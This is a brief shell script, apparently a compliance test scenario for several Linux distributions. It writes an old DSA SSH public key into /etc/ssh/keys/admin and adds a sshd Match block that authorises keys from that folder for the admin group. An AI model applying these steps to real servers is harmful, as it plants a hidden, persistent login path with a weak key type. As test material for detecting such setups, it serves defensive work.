# hosts: ubuntu2404 debian11 debian12 debian13 ubuntu2204 fedora centos
# profile: alliance
# A Match block sends sshd to another folder for the members of one group.
mkdir /etc/ssh/keys
echo 'ssh-dss AAAAB3NzaC1kc3MAAACBAISVLwZp3b9ndc5Tp6qQW7aKAgPGV7ogM2FiRF46ETMIjWsLs0VfPKHyEiaO7KPSF+yDxqMp0JI6WzybcLRQhUxBIzB9Onns6IIxUEDZUF7E1FrT+xuXc6/FFe5nlcD9fnofFdNaJohw1cS28XaG7UPA1kLE0tbAkDFufCp/CAb5AAAAFQDKt7F0++cAg4uFRj/dnFmzQrS4XQAAAIAwAomkqRYUS7ksnecNxNzU5UlUs2sPQCDKoKApdayekEnY17xganjAeEZ75a82qNG4I0dSGfheCG53RN0khgS2eKLNAlYvBMzoxTcH8tzY587MXbKsIjhEc2eZMLLkYDZDfJ0QjRoXoJgMqmuXBM6QmkAzOAoVAjqSd/OczovgSQAAAIBcYBnKOvH3CQ6YlnlHe0geF3fpds4ItvIDKubNYea+AYs3TrS0svzkRsC3lpQj1JQCp8rRS/sdmtgbKsTkdKxezeFwh38ZxJTn51qbKQD4nM1kESdIy1JmpvkLlI/xrAx3VmgEAfoKJcf/uibsZOPnwGfM3PevRmoCxyu3iLbWMQ== old' >/etc/ssh/keys/admin
printf 'Match Group admin\n    AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%%u\n' >/etc/ssh/sshd_config.d/90-keys.conf
systemctl try-reload-or-restart ssh.service sshd.service
